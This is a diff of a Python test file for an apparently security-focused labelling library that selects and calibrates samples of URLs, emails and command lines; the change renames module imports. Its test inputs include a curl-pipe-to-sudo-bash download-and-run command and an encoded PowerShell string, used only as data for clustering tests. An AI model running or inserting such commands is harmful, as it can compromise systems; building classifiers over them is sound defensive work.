@@ -6,7 +6,8 @@ import json
 import numpy as np
 import pytest
 
-from smallworld import label as L
+from smallworld import calibrate
+from smallworld import selection
 from smallworld.student.linear import LinearStudent
 
 
@@ -17,7 +18,7 @@ def _rows(texts):
 def test_near_duplicates_cluster_and_unrelated_do_not():
     texts = [f"http://shop.example-store.test/catalog/item.php?id={i}&ref=mail" for i in range(20)]
     texts += ["https://docs.python.org/3/library/json.html", "powershell -enc SQBFAFgA", "git status"]
-    cl = L.near_duplicate_clusters(texts)
+    cl = selection.near_duplicate_clusters(texts)
     assert len(set(cl[:20])) == 1
     assert len(set(cl)) == 4
 
@@ -25,7 +26,7 @@ def test_near_duplicates_cluster_and_unrelated_do_not():
 def test_dedup_asks_one_representative_and_the_rest_inherit():
     texts = [f"curl -s http://198.51.100.{i}/install.sh | sudo bash -s -- --token abcdef" for i in range(10, 40)]
     texts += ["ls -la", "ping -c 4 10.0.0.1"]
-    sel = L.select("dedup", _rows(texts), budget=10)
+    sel = selection.select("dedup", _rows(texts), budget=10)
     assert len(sel.ask) == 3
     inherited = sum(len(v) for v in sel.members.values())
     assert inherited == 29 and len(sel.ask) + inherited == len(texts)
@@ -33,17 +34,17 @@ def test_dedup_asks_one_representative_and_the_rest_inherit():
 
 def test_exact_duplicates_and_already_labelled_rows_are_never_asked():
     rows = _rows(["ls -la", "LS   -la", "git status", "whoami"])
-    picked = L.select("random", rows, budget=10, exclude={"whoami"}).ask
+    picked = selection.select("random", rows, budget=10, exclude={"whoami"}).ask
     texts = [rows[i]["text"] for i in picked]
-    assert sorted(L._fold(t) for t in texts) == ["git status", "ls -la"]
+    assert sorted(selection._fold(t) for t in texts) == ["git status", "ls -la"]
 
 
 def test_uncertainty_picks_the_smallest_margins():
     texts = ["alpha"] * 5 + ["beta"] * 5
     m = LinearStudent(("a", "b"), {"dim_bits": 10}).fit(texts, np.array([[1, 0]] * 5 + [[0, 1]] * 5, float))
     rows = _rows(["alpha", "beta", "alpha beta", "gamma alpha beta"])
-    sel = L.select("uncertainty", rows, budget=2, student=m, feature_cfg={"dim_bits": 10})
-    margins = L.margins(m, [r["text"] for r in rows])
+    sel = selection.select("uncertainty", rows, budget=2, student=m, feature_cfg={"dim_bits": 10})
+    margins = selection.margins(m, [r["text"] for r in rows])
     assert sorted(sel.ask) == sorted(np.argsort(margins)[:2].tolist())
 
 
@@ -52,7 +53,7 @@ def test_diversity_covers_distinct_groups_first():
               [f"https://login.bank{i}.example.test/signin?session={i}" for i in range(30)],
               [f"Subject: your invoice {i} is attached please review" for i in range(30)]]
     texts = [t for g in groups for t in g]
-    sel = L.select("diversity", _rows(texts), budget=3, feature_cfg={"dim_bits": 16})
+    sel = selection.select("diversity", _rows(texts), budget=3, feature_cfg={"dim_bits": 16})
     assert sorted(i // 30 for i in sel.ask) == [0, 1, 2]
 
 
@@ -61,16 +62,16 @@ def test_combined_on_real_telemetry_is_fast_and_within_budget(data_dir):
     seed = [json.loads(x) for x in gzip.open(data_dir / "urls" / "train.jsonl.gz", "rt")][:500]
     m = LinearStudent(("phishing", "benign")).fit(
         [r["text"] for r in seed], np.array([[r["label"] == "phishing", r["label"] == "benign"] for r in seed], float))
-    sel = L.select("combined", rows, budget=200, student=m, feature_cfg={}, known_texts=[r["text"] for r in seed])
+    sel = selection.select("combined", rows, budget=200, student=m, feature_cfg={}, known_texts=[r["text"] for r in seed])
     assert len(sel.ask) == 200 and len(set(sel.ask)) == 200
-    folded = [L._fold(rows[i]["text"]) for i in sel.ask]
+    folded = [selection._fold(rows[i]["text"]) for i in sel.ask]
     assert len(set(folded)) == 200
 
 
-@pytest.mark.parametrize("strategy", L.STRATEGIES)
+@pytest.mark.parametrize("strategy", selection.STRATEGIES)
 def test_every_strategy_runs_with_an_empty_pool(strategy):
     m = LinearStudent(("a", "b"), {"dim_bits": 10}).fit(["x", "y"], np.eye(2))
-    assert L.select(strategy, [], budget=5, student=m, feature_cfg={"dim_bits": 10}).ask == []
+    assert selection.select(strategy, [], budget=5, student=m, feature_cfg={"dim_bits": 10}).ask == []
 
 
 def _two_models(seed=0):
@@ -90,7 +91,7 @@ def test_teacher_student_combiner_learns_which_model_to_trust():
     alone when both carry independent signal."""
     from sklearn.metrics import roc_auc_score
 
-    from smallworld.label import Combiner
+    from smallworld.calibrate import Combiner
 
     y, model = _two_models()
     noise, good, other = model(0.0), model(2.0), model(1.5)
@@ -112,7 +113,7 @@ def test_teacher_student_combiner_equal_rule_sums_calibrated_log_odds():
     product of the two calibrators, stored as plain numbers."""
     from sklearn.metrics import roc_auc_score
 
-    from smallworld.label import Calibrator, Combiner
+    from smallworld.calibrate import Calibrator, Combiner
 
     y, model = _two_models(1)
     good, other = model(2.0), model(1.5)
@@ -242,7 +243,7 @@ def test_two_students_with_three_classes_on_emails(data_dir):
     y_seed = Ys.argmax(axis=1)
     Pt_seed = Ys * 2.0 + rng.uniform(0, 1.5, Ys.shape)
     Pt_seed /= Pt_seed.sum(axis=1, keepdims=True)
-    comb = L.Combiner(3).fit(Pt_seed, [cv_seed, np.array([cv_self[r["id"]] for r in seed])], y_seed)
+    comb = calibrate.Combiner(3).fit(Pt_seed, [cv_seed, np.array([cv_self[r["id"]] for r in seed])], y_seed)
     out = comb.transform(P, [Pseed, Pself])
     assert out.shape == (len(items), 3) and np.allclose(out.sum(axis=1), 1)
     assert len(comb.to_dict()["students"]) == 2
